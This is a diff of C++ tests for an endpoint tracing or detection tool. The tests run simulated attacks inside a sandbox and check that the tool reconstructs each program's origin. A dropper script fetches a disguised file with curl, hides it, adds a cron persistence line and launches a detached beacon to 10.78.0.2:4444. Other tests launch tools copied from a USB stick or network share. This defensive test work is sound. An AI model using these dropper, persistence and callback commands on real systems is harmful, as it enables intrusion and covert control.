@@ -14,14 +14,21 @@ using testing::ElementsAre;
 
 namespace {
 
-INSTANTIATE_TEST_SUITE_P(Ways, TraceScenario, ::testing::Values("ebpf", "proc"), [](const auto& way) { return std::string(way.param); });
+INSTANTIATE_TEST_SUITE_P(Ways, TraceScenario, ::testing::Values("ebpf", "proc"),
+    [](const auto& way) { return std::string(way.param); });
 
 /// Fetches a program by another program, hides and persists it.
-constexpr const char* kFetchingScript = "#!/bin/bash\n# METSUKE-SIM\n[ -n \"$METSUKE_SIM_ROOT\" ] || exit 1\ncd \"$METSUKE_SIM_ROOT\" || exit 1\n"
-                                        "curl -s -o home/.u.part http://10.78.0.2:8080/logo.png\n"
-                                        "mv home/.u.part home/.update\nchmod +x home/.update\n"
-                                        "printf '* * * * * root %s/home/.update\\n' \"$METSUKE_SIM_ROOT\" >> etc/cron.d/upd\n"
-                                        "setsid home/.update tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &\nexit 0\n";
+constexpr const char* kFetchingScript = R"sh(#!/bin/bash
+# METSUKE-SIM
+[ -n "$METSUKE_SIM_ROOT" ] || exit 1
+cd "$METSUKE_SIM_ROOT" || exit 1
+curl -s -o home/.u.part http://10.78.0.2:8080/logo.png
+mv home/.u.part home/.update
+chmod +x home/.update
+printf '* * * * * root %s/home/.update\n' "$METSUKE_SIM_ROOT" >> etc/cron.d/upd
+setsid home/.update tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
+exit 0
+)sh";
 
 /// A medium in the victim's tree, with a program on it.
 class Medium {
@@ -56,7 +63,8 @@ TEST_P(TraceScenario, ProgramFetchedByCurl_leadsToItsPeerItsWriterAndItsCronLine
     EXPECT_THAT(trace.names(), ElementsAre(path("home/.u.part"), path("home/.update"))) << trace;
     EXPECT_THAT(trace.blast("persistence"), Contains(testing::HasSubstr("/etc/cron.d/upd"))) << trace;
     EXPECT_THAT(trace.blast("process"), Contains(path("dropper.sh"))) << trace;
-    expectEntry(trace, "download", "10.78.0.2:8080", {"no_owner", "before_recorder", "no_parent", "file_unseen"});
+    expectEntry(
+        trace, "download", "10.78.0.2:8080", {"no_owner", "before_recorder", "no_parent", "file_unseen"});
     if (isEbpf()) {
         EXPECT_TRUE(trace.hasEdge("/usr/bin/curl", "wrote", path("home/.update"))) << trace;
     }
@@ -81,9 +89,11 @@ TEST_P(TraceScenario, ProgramCopiedFromAStick_cameOnARemovableMedium) {
     far->takeStreams(kBeaconPort);
     const Medium stick(path("media"), simulant());
     record();
-    const MountLabel label(sensorProcess(), path("media"), "vfat", "/dev/sdb1", MountLabel::Medium::Removable, victim->root());
+    const MountLabel label(
+        sensorProcess(), path("media"), "vfat", "/dev/sdb1", MountLabel::Medium::Removable, victim->root());
     ASSERT_TRUE(eventually([&] { return isMounted("media", endpoint::MountKind::Removable); }));
-    happen("cp \"$METSUKE_SIM_ROOT/media/tool\" home/tool\nsetsid home/tool tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &");
+    happen("cp \"$METSUKE_SIM_ROOT/media/tool\" home/tool\nsetsid home/tool tcp 10.78.0.2 4444 500 "
+           ">/dev/null 2>&1 </dev/null &");
     const TraceView trace = traceOf(beacon());
     EXPECT_EQ(trace.label("subject"), path("home/tool")) << trace;
     expectEntry(trace, "removable", path("media/tool"), {"no_image", "file_unseen"});
@@ -94,7 +104,8 @@ TEST_P(TraceScenario, ProgramRunFromAStick_cameOnARemovableMedium) {
     far->takeStreams(kBeaconPort);
     const Medium stick(path("media"), simulant());
     record();
-    const MountLabel label(sensorProcess(), path("media"), "vfat", "/dev/sdb1", MountLabel::Medium::Removable, victim->root());
+    const MountLabel label(
+        sensorProcess(), path("media"), "vfat", "/dev/sdb1", MountLabel::Medium::Removable, victim->root());
     ASSERT_TRUE(eventually([&] { return isMounted("media", endpoint::MountKind::Removable); }));
     happen("setsid media/tool tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &");
     const TraceView trace = traceOf(beacon());
@@ -107,7 +118,8 @@ TEST_P(TraceScenario, CopyFromAStickAfterAnUnrelatedDownload_stillCameFromTheSti
     far->takeStreams(kBeaconPort);
     const Medium stick(path("media"), simulant());
     record();
-    const MountLabel label(sensorProcess(), path("media"), "vfat", "/dev/sdb1", MountLabel::Medium::Removable, victim->root());
+    const MountLabel label(
+        sensorProcess(), path("media"), "vfat", "/dev/sdb1", MountLabel::Medium::Removable, victim->root());
     ASSERT_TRUE(eventually([&] { return isMounted("media", endpoint::MountKind::Removable); }));
     happen("curl -s -o home/news http://10.78.0.2:8080/news\ncp \"$METSUKE_SIM_ROOT/media/tool\" home/tool\n"
            "setsid home/tool tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &");
@@ -121,9 +133,11 @@ TEST_P(TraceScenario, ProgramCopiedInsideAShare_cameFromARemoteShare) {
     far->takeStreams(kBeaconPort);
     const Medium share(path("share"), simulant());
     record();
-    const MountLabel label(sensorProcess(), path("share"), "cifs", "//server/share", MountLabel::Medium::Fixed, victim->root());
+    const MountLabel label(
+        sensorProcess(), path("share"), "cifs", "//server/share", MountLabel::Medium::Fixed, victim->root());
     ASSERT_TRUE(eventually([&] { return isMounted("share", endpoint::MountKind::Remote); }));
-    happen("cd share && cp tool ../home && cd ..\nsetsid home/tool tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &");
+    happen("cd share && cp tool ../home && cd ..\nsetsid home/tool tcp 10.78.0.2 4444 500 >/dev/null 2>&1 "
+           "</dev/null &");
     const TraceView trace = traceOf(beacon());
     EXPECT_EQ(trace.label("subject"), path("home/tool")) << trace;
     expectEntry(trace, "remote_share", path("share/tool"), {"no_image", "file_unseen"});
